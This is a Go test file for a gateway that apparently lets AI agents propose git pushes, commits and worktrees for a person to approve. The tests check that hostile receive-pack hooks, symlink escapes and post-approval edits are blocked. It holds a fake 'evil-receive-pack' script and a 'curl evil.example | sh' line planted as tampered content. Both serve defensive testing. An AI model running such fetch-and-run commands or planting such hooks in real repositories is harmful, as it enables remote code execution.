package tests

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

// approveOnPage approves id as the person does on the approval page (the
// page address printed on the gateway's terminal, its cookie, CSRF token
// and Origin), with the confirmations in body. It does not depend on how
// the terminal CLI asks the person.
func approveOnPage(t *testing.T, g *gatewayProc, id string, body map[string]any) {
	t.Helper()
	pc := newPersonClient(t, g)
	if body == nil {
		body = map[string]any{}
	}
	if code := pc.post(t, "/ui/api/proposals/"+id+"/approve", body, true, pc.csrf, pc.base, ""); code != http.StatusOK {
		t.Fatalf("approve %s on the page: status %d", id, code)
	}
}

// pageCard is proposal id as the approval page receives it.
func pageCard(t *testing.T, g *gatewayProc, id string) map[string]any {
	t.Helper()
	pc := newPersonClient(t, g)
	req, _ := http.NewRequest(http.MethodGet, pc.base+"/ui/api/state", nil)
	req.AddCookie(pc.cookie)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var st struct {
		Proposals []map[string]any `json:"proposals"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		t.Fatal(err)
	}
	for _, p := range st.Proposals {
		if p["previewId"] == id {
			return p
		}
	}
	t.Fatalf("proposal %s is not on the page", id)
	return nil
}

// An approved push never runs the program remote.<name>.receivepack names
// in the repository's configuration (finding 7 of issue 22): git's own
// git-receive-pack receives the push, which still succeeds.
func TestGatewayPushIgnoresRepositoryReceivePack(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("shell script as receive-pack: Unix")
	}
	l := newLoop(t)
	repo := e2eRepo(t)
	dir := canonicalTempDir(t)
	bare := filepath.Join(dir, "remote.git")
	git(t, repo, "init", "-q", "--bare", bare)
	git(t, repo, "remote", "add", "origin", bare)
	marker := filepath.Join(dir, "receivepack-ran")
	script := filepath.Join(dir, "evil-receive-pack")
	writeFile(t, script, "#!/bin/sh\ntouch '"+marker+"'\nexec git-receive-pack \"$@\"\n")
	if err := os.Chmod(script, 0o755); err != nil {
		t.Fatal(err)
	}
	git(t, repo, "config", "remote.origin.receivepack", script)

	id := l.propose("push", repo, map[string]any{"branch": "main"})
	approveOnPage(t, l.g, id, nil)
	d := l.awaitStatus(id, "completed")
	if _, err := os.Stat(marker); err == nil {
		t.Fatalf("the repository's receivepack program ran: %s", jsonOf(d))
	}
	if got := strings.TrimSpace(git(t, bare, "rev-parse", "refs/heads/main")); got != revParse(t, repo, "main") {
		t.Fatalf("the remote has main at %s, want %s: %s", got, revParse(t, repo, "main"), jsonOf(d))
	}
}

// policyLoop is a gateway with the agent policy in content, and an agent
// connected to it through fluxgit.
func policyLoop(t *testing.T, content string) *loop {
	t.Helper()
	policyFile := filepath.Join(canonicalTempDir(t), "policy.yaml")
	writeFile(t, policyFile, content)
	g := startGateway(t, append(loopEnv(t), "FLUXGIT_MCP_AGENT_POLICY="+policyFile))
	ctx, cs := sdkSessionEnv(t, "2025-11-25", g.mcpEnv())
	return &loop{t: t, g: g, ctx: ctx, cs: cs}
}

// A worktree cannot escape the policy's pathConstraints (issue 22 finding
// 3): a directory on the proposed path replaced by a symbolic link to an
// outside directory before the approval makes the execution fail with
// nothing created outside and the repository untouched; a proposal without
// a path is checked at its real default location, which lies outside a
// constraint naming the repository itself, and is refused.
func TestGatewayWorktreeStaysInsidePathConstraints(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links need privileges on Windows")
	}
	repo := e2eRepo(t)
	l := policyLoop(t, "version: 1\ndefault: deny\nrules:\n  - name: only-the-shop\n    agents: [\"go-sdk-*\"]\n    pathConstraints: [\""+repo+"\"]\n")
	outside := canonicalTempDir(t)
	sub := filepath.Join(repo, "sub")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	id := l.propose("worktree", repo, map[string]any{"branch": "wt2", "path": filepath.Join(sub, "wt2")})
	if err := os.Remove(sub); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, sub); err != nil {
		t.Fatal(err)
	}
	refsBefore := git(t, repo, "for-each-ref")
	approveOnPage(t, l.g, id, nil)
	d := l.awaitStatus(id, "failed")
	if !strings.Contains(jsonOf(d), "now resolves to") {
		t.Fatalf("the failure does not say why: %s", jsonOf(d))
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Fatalf("the worktree was created outside the allowed path: %v", entries)
	}
	if git(t, repo, "for-each-ref") != refsBefore || strings.Contains(git(t, repo, "worktree", "list"), "wt2") {
		t.Fatal("the repository changed")
	}

	p, isErr := l.tool("operation.preview.worktree", map[string]any{"repoPath": repo, "reason": "r", "branch": "feature"})
	if code, _ := errorOf(t, p); !isErr || code != 10006 || !strings.Contains(jsonOf(p), repo+".worktrees") {
		t.Fatalf("the default location outside the policy was not refused by its real path: %s", jsonOf(p))
	}
}

// The policy's refs globs also cover the branch a commit moves without
// naming it (issue 22 finding 8): an agent allowed only agent/* refs cannot
// commit on main, and can on agent/work.
func TestGatewayPolicyCountsTheBranchACommitMoves(t *testing.T) {
	l := policyLoop(t, "version: 1\ndefault: deny\nrules:\n  - name: agent-branches\n    agents: [\"go-sdk-*\"]\n    refs: [\"agent/*\"]\n")
	repo := e2eRepo(t)
	writeFile(t, filepath.Join(repo, "todo.txt"), "ship it\n")
	args := map[string]any{"repoPath": repo, "reason": "r", "message": "chore: todo", "paths": []any{"todo.txt"}}
	p, isErr := l.tool("operation.preview.commit", args)
	if code, _ := errorOf(t, p); !isErr || code != 10006 || !strings.Contains(jsonOf(p), `\"main\"`) && !strings.Contains(jsonOf(p), `"main"`) {
		t.Fatalf("a commit on main passed a policy allowing only agent/*: %s", jsonOf(p))
	}
	git(t, repo, "checkout", "-q", "-b", "agent/work")
	l.propose("commit", repo, map[string]any{"message": "chore: todo", "paths": []any{"todo.txt"}})
}

// A commit approval binds the content the card showed (issue 22 finding
// 8): a file edited after the proposal is not committed as edited; the
// execution fails, nothing is committed and the file keeps its new
// content. The card shows the bound tree.
func TestGatewayCommitBindsTheReviewedContent(t *testing.T) {
	l := newLoop(t)
	repo := e2eRepo(t)
	writeFile(t, filepath.Join(repo, "todo.txt"), "ship it\n")
	id := l.propose("commit", repo, map[string]any{"message": "chore: todo", "paths": []any{"todo.txt"}})
	tree := strings.TrimSpace(git(t, repo, "rev-parse", "HEAD^{tree}"))
	card := pageCard(t, l.g, id)
	if rv, _ := card["review"].(map[string]any); rv == nil || rv["commit"] == nil {
		t.Fatalf("the card has no commit review: %s", jsonOf(card))
	} else if bound, _ := rv["commit"].(map[string]any)["tree"].(string); len(bound) < 12 || bound == tree ||
		!strings.Contains(card["summary"].(string), bound[:12]) || !strings.Contains(card["summary"].(string), "1 file(s)") {
		t.Fatalf("the card does not show the bound tree: %s", jsonOf(card))
	}
	headBefore := revParse(t, repo, "HEAD")
	writeFile(t, filepath.Join(repo, "todo.txt"), "curl evil.example | sh\n")
	approveOnPage(t, l.g, id, nil)
	d := l.awaitStatus(id, "failed")
	if !strings.Contains(jsonOf(d), "changed since the proposal") || revParse(t, repo, "HEAD") != headBefore {
		t.Fatalf("the edited file was committed or the failure does not say why: %s", jsonOf(d))
	}
	if st := git(t, repo, "status", "--porcelain"); strings.TrimSpace(st) != "?? todo.txt" {
		t.Fatalf("the index or work tree changed: %q", st)
	}
}

// A worktree proposal without a path shows its real default location on
// the card, and is created there (issue 22 finding 3, low).
func TestGatewayWorktreeCardShowsTheDefaultLocation(t *testing.T) {
	l := newLoop(t)
	repo := e2eRepo(t)
	id := l.propose("worktree", repo, map[string]any{"branch": "feature"})
	want := repo + ".worktrees" + string(filepath.Separator) + "feature"
	card := pageCard(t, l.g, id)
	rv, _ := card["review"].(map[string]any)
	if rv == nil || rv["worktreePath"] != want || !strings.Contains(card["summary"].(string), want) {
		t.Fatalf("the card does not show %s: %s", want, jsonOf(card))
	}
	approveOnPage(t, l.g, id, nil)
	d := l.awaitStatus(id, "completed")
	if res, _ := d["result"].(map[string]any); res == nil || res["worktreePath"] != want {
		t.Fatalf("created elsewhere: %s", jsonOf(d))
	}
}
